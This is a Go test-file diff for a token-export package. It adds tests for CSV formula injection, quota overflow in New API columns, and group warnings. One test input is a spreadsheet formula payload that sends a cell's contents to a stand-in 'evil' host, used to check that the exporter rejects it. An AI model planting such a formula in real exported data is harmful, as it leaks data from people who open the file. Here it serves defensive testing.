@@ -71,12 +71,13 @@ func TestRoundTrip(t *testing.T) {
 			s.RequestsPerMinute, s.MaxConcurrent = new(rapid.Int64Range(0, 9).Draw(t, "rate")), new(rapid.Int64Range(0, 9).Draw(t, "open"))
 		}
 		made, _ := newToken(t, s)
+		made.GroupGranted = true
 		made.UsedQuota = rapid.Int64Range(0, 1<<45).Draw(t, "used")
 		perDollar := rapid.SampledFrom([]int64{500_000, 1000, 7}).Draw(t, "units per dollar")
 		if format == "newapi" {
 			perDollar = 500_000
 		}
-		file, row := written(t, format, made, export.WriteOptions{UnitsPerDollar: perDollar})
+		file, row := written(t, format, made, export.WriteOptions{UnitsPerDollar: perDollar, Ignore: []string{"formulas"}})
 		if row.Problem != "" {
 			t.Fatalf("got the problem %q", row.Problem)
 		}
@@ -97,7 +98,7 @@ func TestRoundTrip(t *testing.T) {
 			t.Errorf("got a quota of %d, want %d: %s", again.RemainQuota, made.RemainQuota, file)
 		}
 		made.RemainQuota, again.RemainQuota = 0, 0
-		made.ID, made.KeyHash, made.Mask, made.UsedQuota = 0, [32]byte{}, "", 0
+		made.ID, made.KeyHash, made.Mask, made.UsedQuota, made.GroupGranted = 0, [32]byte{}, "", 0, false
 		if got, want := fmt.Sprintf("%+v", again), fmt.Sprintf("%+v", made); got != want {
 			t.Errorf("got\n%s, want\n%s, from\n%s", got, want, file)
 		}
@@ -231,6 +232,72 @@ func TestWriteNewAPI(t *testing.T) {
 		file, _ := written(t, "newapi", made, export.WriteOptions{UnitsPerDollar: scale})
 		if !strings.Contains(file, want) || !strings.Contains(file, fmt.Sprintf("%x", key.Hash())) || strings.Contains(file, key.Reveal()[3:]) {
 			t.Errorf("%d: got %s, want %s", scale, file, want)
+		}
+	}
+}
+
+// TestWriteFormulas checks that no cell of a CSV file begins as a formula of a
+// spreadsheet, unless that is accepted, and that JSON is not affected.
+func TestWriteFormulas(t *testing.T) {
+	t.Parallel()
+	for _, text := range []string{`=HYPERLINK("http://evil/?"&A2)`, "+1", "-1", "@cf/meta/llama", "＝1", "＋1", "－1", "＠x", "plain=1", "x-1"} {
+		for name, s := range map[string]token.Settings{
+			"name":           {Name: &text},
+			"list of models": {Name: new("n"), Models: []string{text, "a"}, ModelLimitsEnabled: new(true)},
+			"group":          {Name: new("n"), Group: &text},
+		} {
+			s.UnlimitedQuota = new(true)
+			made, _ := newToken(t, s)
+			made.GroupGranted = true
+			want := text != "plain=1" && text != "x-1"
+			file, row := written(t, "newapi", made, export.WriteOptions{})
+			if got := strings.HasPrefix(row.Problem, "its "+name+" begins with "); got != want {
+				t.Errorf("%s %s: got %s and the problem %q", name, text, file, row.Problem)
+			}
+			file, row = written(t, "newapi", made, export.WriteOptions{Ignore: []string{"formulas"}})
+			if row.Problem != "" || !strings.Contains(file, `"`+strings.ReplaceAll(text, `"`, `""`)) {
+				t.Errorf("%s %s, ignored: got %s and the problem %q", name, text, file, row.Problem)
+			}
+			if _, row = written(t, "litellm", made, export.WriteOptions{}); row.Problem != "" {
+				t.Errorf("%s %s: got the problem %q in JSON", name, text, row.Problem)
+			}
+		}
+	}
+}
+
+// TestWriteTooMuch checks that a number that does not fit in a column of New API is
+// a problem.
+func TestWriteTooMuch(t *testing.T) {
+	t.Parallel()
+	const most = token.MaxInteger
+	for _, c := range []struct {
+		left, used, scale int64
+		want              string // the beginning of the problem
+	}{
+		{most, 0, 1, "its remaining quota is more in New API"},
+		{0, most, 1, "its used quota is more"},
+		{most, most, 500, ""},
+		{18_446_744_073_709, 0, 1, ""},
+		{18_446_744_073_710, 0, 1, "its remaining quota is more"},
+		{most, most, 0, ""},
+	} {
+		made, _ := newToken(t, token.Settings{Name: new("n"), RemainQuota: &c.left})
+		made.UsedQuota = c.used
+		if file, row := written(t, "newapi", made, export.WriteOptions{UnitsPerDollar: c.scale}); !strings.HasPrefix(row.Problem, c.want) || (row.Problem == "") != (c.want == "") {
+			t.Errorf("%+v: got the problem %q, %s", c, row.Problem, file)
+		}
+	}
+}
+
+// TestWriteGroup checks that a group without an effect here has none in New API.
+func TestWriteGroup(t *testing.T) {
+	t.Parallel()
+	for _, granted := range []bool{true, false} {
+		made, _ := newToken(t, token.Settings{Name: new("n"), UnlimitedQuota: new(true), Group: new("vip")})
+		made.GroupGranted = granted
+		file, row := written(t, "newapi", made, export.WriteOptions{})
+		if strings.Contains(file, "vip") != granted || (len(row.Warnings) == 0) != granted {
+			t.Errorf("granted %t: got %s, %q", granted, file, row.Warnings)
 		}
 	}
 }
